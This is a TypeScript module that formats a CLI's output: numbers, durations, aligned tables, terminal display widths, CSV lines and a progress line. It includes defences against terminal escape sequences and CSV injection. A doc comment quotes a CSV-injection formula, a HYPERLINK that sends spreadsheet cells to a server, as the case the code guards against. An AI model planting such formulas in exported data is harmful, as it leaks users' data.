/**
 * Text output of the CLI: aligned tables, short numbers, CSV, durations and the progress line.
 */
import type { FrozenTrial, ParamValue } from "../space/index.js";
import { shellWord } from "../storage/index.js";

/**
 * A number in at most `digits` significant digits, without trailing zeros.
 *
 * @example
 * formatNumber(0.413249) // "0.4132"
 * formatNumber(4.125e-6) // "4.125e-6"
 */
export function formatNumber(value: number | null | undefined, digits = 4): string {
  if (value === null || value === undefined) return "-";
  if (!Number.isFinite(value)) return String(value);
  if (Number.isInteger(value) && Math.abs(value) < 1e9) return String(value);
  const abs = Math.abs(value);
  if (abs !== 0 && (abs < 1e-3 || abs >= 1e6)) return value.toExponential(digits - 1).replace(/\.?0+e/, "e");
  return String(Number(value.toPrecision(digits)));
}

/**
 * A parameter value for a table cell (numbers shortened). The empty string, a categorical choice
 * like any other, is shown as `""`: blank, it looked like a parameter the trial does not have.
 *
 * @example
 * formatParam(0.0123456) // "0.01235"
 * formatParam("")        // '""'
 */
export function formatParam(value: ParamValue | undefined): string {
  if (value === undefined) return "";
  if (value === "") return '""';
  if (typeof value === "number") return formatNumber(value);
  return String(value);
}

/**
 * Parameters on one line.
 *
 * @example
 * formatParams({ x: 1.234567, kind: "a" }) // "x=1.235, kind=a"
 */
export function formatParams(params: Readonly<Record<string, ParamValue>>): string {
  return Object.entries(params)
    .map(([k, v]) => `${k}=${formatParam(v)}`)
    .join(", ");
}

/**
 * A trial's value, or its values in brackets for several objectives.
 *
 * @example
 * formatValues([0.5, 12]) // "[0.5, 12]"
 */
export function formatValues(values: readonly number[] | null): string {
  if (!values) return "-";
  return values.length === 1 ? formatNumber(values[0]) : `[${values.map((v) => formatNumber(v)).join(", ")}]`;
}

/**
 * A duration in milliseconds, short.
 *
 * @example
 * formatDuration(184_000) // "3m04s"
 */
export function formatDuration(ms: number | null): string {
  if (ms === null || !Number.isFinite(ms)) return "-";
  const s = ms / 1000;
  if (s < 9.95) return `${s.toFixed(1)}s`;
  // Rounded once, before splitting into minutes: rounding the remainder gave "1m60s" for 119.6 s.
  const whole = Math.round(s);
  if (whole < 60) return `${whole}s`;
  const m = Math.floor(whole / 60);
  if (m < 60) return `${m}m${String(whole - m * 60).padStart(2, "0")}s`;
  const h = Math.floor(m / 60);
  return `${h}h${String(m - h * 60).padStart(2, "0")}m`;
}

/**
 * A local date and time, to the second.
 *
 * @example
 * formatTime(Date.now()) // "2026-11-27 04:12:23"
 */
export function formatTime(ms: number | null): string {
  if (ms === null) return "-";
  const d = new Date(ms);
  const pad = (n: number): string => String(n).padStart(2, "0");
  return `${d.getFullYear()}-${pad(d.getMonth() + 1)}-${pad(d.getDate())} ${pad(d.getHours())}:${pad(d.getMinutes())}:${pad(d.getSeconds())}`;
}

/**
 * How long a finished trial ran, in milliseconds, or null.
 *
 * @example
 * trialDuration(trial) // 1523
 */
export function trialDuration(trial: FrozenTrial): number | null {
  return trial.startedAt !== null && trial.finishedAt !== null ? trial.finishedAt - trial.startedAt : null;
}

// Numbers (and seconds), non-finite ones as formatNumber spells them, and formatDuration's longer
// durations: one "Infinity" or "2m25s" turned a column of numbers left-aligned.
const NUMERIC = /^(?:[-+]?(?:\d+\.?\d*|\.\d+)(?:e[-+]?\d+)?s?|[-+]?Infinity|NaN|\d+m\d\ds|\d+h\d\dm)$/i;

/**
 * An aligned text table. Columns whose cells all look numeric are right-aligned; long cells are
 * cut to `maxWidth` characters.
 *
 * @example
 * renderTable(["name", "value"], [["lr", "0.01"]])
 */
export function renderTable(headers: readonly string[], rows: readonly (readonly string[])[], maxWidth = 40): string {
  return alignedTable(headers, rows.map((row) => headers.map((_, i) => [cutToWidth(printable(row[i] ?? ""), maxWidth)])));
}

/** How {@link renderWrappedTable} sizes its columns. */
export interface WrapLayout {
  /** The columns the table may take in all (the terminal's width, say). */
  readonly width: number;
  /** The column that takes what `width` leaves after the others, wrapped to it (a description). */
  readonly fill: number;
  /** The fill column's least width: capped columns narrow (to their longest word) to leave it, else the table is wider than `width` (default 0). */
  readonly minFill?: number;
  /** The most columns each other column takes before it wraps (null or missing: as wide as its cells). */
  readonly caps?: readonly (number | null)[];
}

/**
 * An aligned text table whose long cells wrap at spaces onto further lines instead of being cut:
 * every word is printed whole (a column is never narrower than its longest word), so the text
 * can be read and copied entire. The `fill` column takes the width the others leave.
 *
 * @example
 * renderWrappedTable(["option", "description"], [["seed", "seed of every random draw"]], { width: 20, fill: 1 })
 * // option  description
 * // ------  ------------
 * // seed    seed of every
 * //         random draw
 */
export function renderWrappedTable(headers: readonly string[], rows: readonly (readonly string[])[], layout: WrapLayout): string {
  const texts = rows.map((row) => headers.map((_, i) => printable(row[i] ?? "")));
  const column = (i: number): string[] => [printable(headers[i]!), ...texts.map((row) => row[i]!)];
  const natural = headers.map((_, i) => widest(column(i), displayWidth));
  const longestWord = headers.map((_, i) => widest(column(i), (text) => widest(text.split(" "), displayWidth)));
  const widths = natural.map((width, i) => Math.max(longestWord[i]!, Math.min(width, layout.caps?.[i] ?? width)));
  const others = (): number => widths.reduce((sum, width, i) => (i === layout.fill ? sum : sum + width + COLUMN_GAP.length), 0);
  const minFill = Math.min(natural[layout.fill]!, layout.minFill ?? 0);
  // A narrow terminal: the capped columns give up width, the widest first, down to their longest word.
  for (let short = minFill - (layout.width - others()); short > 0; short--) {
    let widest = -1;
    widths.forEach((width, i) => {
      if (i !== layout.fill && layout.caps?.[i] != null && width > longestWord[i]! && (widest < 0 || width > widths[widest]!)) widest = i;
    });
    if (widest < 0) break;
    widths[widest]!--;
  }
  widths[layout.fill] = Math.min(natural[layout.fill]!, Math.max(longestWord[layout.fill]!, minFill, layout.width - others()));
  return alignedTable(headers, texts.map((row) => row.map((text, i) => wrapToWidth(text, widths[i]!))));
}

/** One record of {@link renderStacked}: a title line, then paragraphs under it. */
export interface StackedRecord {
  readonly title: string;
  readonly paragraphs: readonly string[];
}

/**
 * Records one under another, for a terminal too narrow for their table: each title on a line of
 * its own, its paragraphs wrapped at spaces to `width` columns and indented under it. Every word is
 * printed whole, so a line is wider than `width` only for a word longer than the room left.
 *
 * @example
 * renderStacked([{ title: "seed", paragraphs: ["integer · default random", "seed of every random draw"] }], 20)
 * // seed
 * //     integer ·
 * //     default random
 * //     seed of every
 * //     random draw
 */
export function renderStacked(records: readonly StackedRecord[], width: number, indent = "    "): string {
  const room = width - displayWidth(indent);
  return records
    .flatMap((record) => [printable(record.title), ...record.paragraphs.flatMap((text) => wrapToWidth(printable(text), room).map((line) => indent + line))])
    .join("\n");
}

const COLUMN_GAP = "  ";

/**
 * The largest `width` of any item, 0 for none: a loop, since `Math.max(...widths)` passes one
 * argument per row and overflowed the call stack past about 120,000 rows (`sextant trials` of a
 * 200,000-trial study).
 */
function widest<T>(items: readonly T[], width: (item: T) => number): number {
  let most = 0;
  for (const item of items) most = Math.max(most, width(item));
  return most;
}

/** Headers and rows of cells, each cell one or more lines, aligned in columns. */
function alignedTable(headers: readonly string[], cells: readonly (readonly (readonly string[])[])[]): string {
  // Headers too: a parameter named "a\nb" split the header row, and one holding an escape sequence
  // (which any HTTP client can create) reached the operator's terminal raw.
  headers = headers.map(printable);
  // Measured in terminal columns: a column of "大型模型" (4 characters, 8 columns) pushed the next
  // column 4 columns out of line.
  const widths = headers.map((h, i) => Math.max(displayWidth(h), widest(cells, (row) => widest(row[i]!, displayWidth))));
  const numeric = (cell: readonly string[]): boolean => cell.length === 1 && (cell[0] === "" || cell[0] === "-" || NUMERIC.test(cell[0]!));
  const right = headers.map((_, i) => cells.length > 0 && cells.every((r) => numeric(r[i]!)));
  const pad = (cell: string, width: number): string => " ".repeat(Math.max(0, width - displayWidth(cell)));
  const line = (row: readonly string[]): string =>
    row
      .map((cell, i) => (right[i] ? pad(cell, widths[i]!) + cell : cell + pad(cell, widths[i]!)))
      .join(COLUMN_GAP)
      .trimEnd();
  const lines = [line(headers), line(widths.map((w) => "-".repeat(w)))];
  for (const row of cells) {
    const height = Math.max(1, ...row.map((cell) => cell.length));
    for (let k = 0; k < height; k++) lines.push(line(row.map((cell) => cell[k] ?? "")));
  }
  return lines.join("\n");
}

/**
 * `text` broken at spaces into lines of at most `width` columns; a longer word keeps a line of its own.
 *
 * @example
 * wrapToWidth("seed of every random draw", 12) // ["seed of", "every random", "draw"]
 */
export function wrapToWidth(text: string, width: number): string[] {
  const lines: string[] = [];
  let current = "";
  for (const word of text.split(" ")) {
    if (current !== "" && displayWidth(current) + 1 + displayWidth(word) > width) {
      lines.push(current);
      current = word;
    } else {
      current = current === "" ? word : `${current} ${word}`;
    }
  }
  lines.push(current);
  return lines;
}

/**
 * How many terminal columns `text` takes: East Asian wide and fullwidth characters (CJK, Hangul,
 * fullwidth forms, most emoji) take two, combining marks and zero-width characters none.
 *
 * @example
 * displayWidth("学习率") // 6
 */
export function displayWidth(text: string): number {
  let width = 0;
  for (const char of text) width += charWidth(char.codePointAt(0)!);
  return width;
}

/** `text` cut to at most `max` columns, with "…" where it was cut. */
function cutToWidth(text: string, max: number): string {
  if (displayWidth(text) <= max) return text;
  let kept = "";
  let width = 0;
  for (const char of text) {
    const w = charWidth(char.codePointAt(0)!);
    if (width + w > max - 1) break;
    kept += char;
    width += w;
  }
  return `${kept}…`;
}

const ZERO_WIDTH: readonly (readonly [number, number])[] = [
  [0x0300, 0x036f], [0x0483, 0x0489], [0x0591, 0x05bd], [0x0610, 0x061a], [0x064b, 0x065f], [0x0e31, 0x0e31], [0x0e34, 0x0e3a],
  [0x0e47, 0x0e4e], [0x1ab0, 0x1aff], [0x1dc0, 0x1dff], [0x200b, 0x200f], [0x20d0, 0x20ff], [0xfe00, 0xfe0f], [0xfe20, 0xfe2f], [0xe0100, 0xe01ef],
];
const WIDE: readonly (readonly [number, number])[] = [
  [0x1100, 0x115f], [0x231a, 0x231b], [0x2329, 0x232a], [0x23e9, 0x23ec], [0x25fd, 0x25fe], [0x2614, 0x2615], [0x2648, 0x2653],
  [0x26a1, 0x26a1], [0x26aa, 0x26ab], [0x26bd, 0x26be], [0x26c4, 0x26c5], [0x26d4, 0x26d4], [0x26ea, 0x26ea], [0x26f2, 0x26f5],
  [0x26fa, 0x26fd], [0x2705, 0x2705], [0x270a, 0x270b], [0x2728, 0x2728], [0x274c, 0x274c], [0x2753, 0x2755], [0x2757, 0x2757],
  [0x2795, 0x2797], [0x27b0, 0x27b0], [0x27bf, 0x27bf], [0x2b1b, 0x2b1c], [0x2b50, 0x2b50], [0x2b55, 0x2b55], [0x2e80, 0x303e],
  [0x3041, 0x33ff], [0x3400, 0x4dbf], [0x4e00, 0x9fff], [0xa000, 0xa4cf], [0xa960, 0xa97f], [0xac00, 0xd7a3], [0xf900, 0xfaff],
  [0xfe10, 0xfe19], [0xfe30, 0xfe6f], [0xff00, 0xff60], [0xffe0, 0xffe6], [0x16fe0, 0x18aff], [0x1b000, 0x1b2ff], [0x1f004, 0x1f004],
  [0x1f0cf, 0x1f0cf], [0x1f18e, 0x1f18e], [0x1f191, 0x1f19a], [0x1f200, 0x1f251], [0x1f300, 0x1f64f], [0x1f680, 0x1f6ff],
  [0x1f7e0, 0x1f7eb], [0x1f90c, 0x1f9ff], [0x1fa70, 0x1faff], [0x20000, 0x3fffd],
];

function inRanges(code: number, ranges: readonly (readonly [number, number])[]): boolean {
  let low = 0;
  let high = ranges.length - 1;
  while (low <= high) {
    const mid = (low + high) >> 1;
    const [from, to] = ranges[mid]!;
    if (code < from) high = mid - 1;
    else if (code > to) low = mid + 1;
    else return true;
  }
  return false;
}

function charWidth(code: number): number {
  if (inRanges(code, ZERO_WIDTH)) return 0;
  return inRanges(code, WIDE) ? 2 : 1;
}

/** One line of visible text: runs of white space become one space, other control characters \xHH. */
function printable(text: string): string {
  return text.replace(/\s+/g, " ").replace(/[\u0000-\u001f\u007f-\u009f]/g, (c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, "0")}`);
}

/**
 * One CSV field, quoted when it holds a comma, a quote or a line break (RFC 4180).
 *
 * @example
 * csvField('say "hi", twice') // '"say ""hi"", twice"'
 */
export function csvField(value: string): string {
  return /[",\r\n]/.test(value) || /^\s|\s$/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

/**
 * A text cell of a CSV export (a categorical choice, a failure reason, a checkpoint's name) as a
 * spreadsheet shows it rather than runs it. Text that begins with `=`, `+`, `-`, `@`, a tab or a
 * carriage return is opened by Excel, LibreOffice and Google Sheets as a formula, quoted or not:
 * a failure reason `=HYPERLINK("https://…?"&A2, "details")` that a program wrote sent the sheet's
 * cells to a server when clicked (CSV injection). Such text gets a leading `'`, as OWASP advises,
 * which spreadsheets take as "text follows". Text that is itself a number ("-1", "+0.5e3") is
 * left as it is: a spreadsheet reads it as that number, not as a formula. Numbers never come here,
 * so a negative value stays a number.
 *
 * @example
 * spreadsheetText("=SUM(A1:A9)") // "'=SUM(A1:A9)"
 * spreadsheetText("-1") // "-1"
 */
export function spreadsheetText(text: string): string {
  return /^[=+\-@\t\r]/.test(text) && !/^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/.test(text) ? `'${text}` : text;
}

// Storage's messages print commands too (sqlite3 on a WAL file); the CLI's come from here.
export { shellWord };

/**
 * A command template as one line that reads back as the same words: each word as
 * {@link shellWord} writes it, but a `{name}` placeholder stays bare, as the user wrote it.
 * Joined with spaces, `["python", "-c", "import sys; print(1)"]` read as five words.
 *
 * @example
 * commandLine(["python", "train.py", "--name", "my run", "--lr={lr}"]) // "python train.py --name 'my run' --lr={lr}"
 */
export function commandLine(argv: readonly string[]): string {
  return argv.map((word) => (/^(?:[A-Za-z0-9_@%+=:,./-]|\{[\p{L}_][\p{L}\p{M}\p{N}_.-]*\})+$/u.test(word) ? word : shellWord(word))).join(" ");
}

/**
 * The lines of a CSV document (RFC 4180), each with its CRLF, one row at a time: the rows may be
 * made as they are asked for, so a large export is never held whole.
 *
 * @example
 * for (const line of csvLines(["number", "value"], [["0", "0.5"]])) process.stdout.write(line);
 */
export function* csvLines(headers: readonly string[], rows: Iterable<readonly string[]>): Generator<string> {
  yield csvLine(headers);
  for (const row of rows) yield csvLine(row);
}

/**
 * One line of a CSV document (RFC 4180), with its CRLF.
 *
 * @example
 * csvLine(["0", "a,b"]) // '0,"a,b"\r\n'
 */
export function csvLine(cells: readonly string[]): string {
  return `${cells.map(csvField).join(",")}\r\n`;
}

/**
 * A single progress line redrawn in place on a terminal: trials done out of the total, best value,
 * running trials, elapsed time and ETA.
 *
 * @example
 * const progress = new ProgressLine(process.stderr, () => `${done}/${total}`);
 * progress.start(); // … progress.log("trial 3 failed"); … progress.stop();
 */
export class ProgressLine {
  private timer: NodeJS.Timeout | null = null;
  private lastText = "";

  constructor(
    private readonly stream: NodeJS.WriteStream,
    private readonly render: () => string,
  ) {}

  start(): void {
    this.draw();
    this.timer = setInterval(() => this.draw(), 250);
    this.timer.unref();
  }

  draw(): void {
    const width = Math.max(20, (this.stream.columns || 80) - 1);
    // Cut by the columns it takes: cut by .length, a CJK study name wrapped the line, and "\r"
    // then redrew only its last row, stacking the rest.
    const text = cutToWidth(this.render(), width);
    if (text === this.lastText) return;
    this.lastText = text;
    this.stream.write(`\r\x1b[2K${text}`);
  }

  /** Prints a line above the progress line. */
  log(line: string): void {
    this.stream.write(`\r\x1b[2K${line}\n`);
    this.lastText = "";
    this.draw();
  }

  stop(): void {
    if (this.timer) clearInterval(this.timer);
    this.timer = null;
    this.stream.write("\r\x1b[2K");
    this.lastText = "";
  }
}

/**
 * A text progress bar of `width` cells.
 *
 * @example
 * bar(0.5, 10) // "[#####.....]"
 */
export function bar(fraction: number, width = 20): string {
  const filled = Math.max(0, Math.min(width, Math.round(fraction * width)));
  return `[${"#".repeat(filled)}${".".repeat(width - filled)}]`;
}
